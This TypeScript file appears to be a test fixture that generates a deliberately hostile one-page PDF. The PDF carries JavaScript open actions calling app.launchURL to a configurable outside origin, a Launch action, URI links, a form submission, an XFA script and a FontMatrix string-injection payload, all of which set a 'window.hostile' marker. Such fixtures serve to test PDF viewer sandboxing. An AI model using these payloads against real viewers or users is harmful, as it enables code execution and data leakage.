const objects = (away: string) => [
  `<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 5 0 R>>/Names<</JavaScript<</Names[(run) 5 0 R]>>>>/AcroForm<</Fields[8 0 R]/XFA 9 0 R>>>>`,
  "<</Type/Pages/Kids[3 0 R]/Count 1>>",
  "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 10 0 R>>>>/AA<</O 5 0 R>>/Annots[6 0 R 7 0 R 8 0 R]>>",
  stream("0 0 1 rg 0 0 150 200 re f BT /F 24 Tf 20 100 Td (Passport) Tj ET"),
  `<</S/JavaScript/JS(app.launchURL("${away}/script");window.hostile=true;app.alert\\("run"\\))/Next<</S/URI/URI(${away}/next)>>>>`,
  `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(${away}/link)>>>>`,
  `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/Launch/F(${away}/launch)>>>>`,
  `<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[0 0 100 20]/AA<</F 5 0 R>>/A<</S/SubmitForm/F(${away}/form)>>>>`,
  stream(`<xdp><script contentType="application/x-javascript">window.hostile = true</script></xdp>`),
  "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix[1 2 3 4 5 (0\\); window.hostile = true)]>>",
];

function stream(text: string): string {
  return `<</Length ${text.length}>>\nstream\n${text}\nendstream`;
}

/** A one-page PDF with scripts, links, a form and a launch action that all point to the origin `away`. */
export function createHostilePdf(away: string): Buffer<ArrayBuffer> {
  let text = "%PDF-1.7\n";
  const places = objects(away).map((body, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return `${String(at).padStart(10, "0")} 00000 n \n`;
  });
  const count = places.length + 1;
  const table = `xref\n0 ${count}\n0000000000 65535 f \n${places.join("")}`;
  return Buffer.from(
    `${text}${table}trailer\n<</Root 1 0 R/Size ${count}>>\nstartxref\n${text.length}\n%%EOF\n`,
  );
}
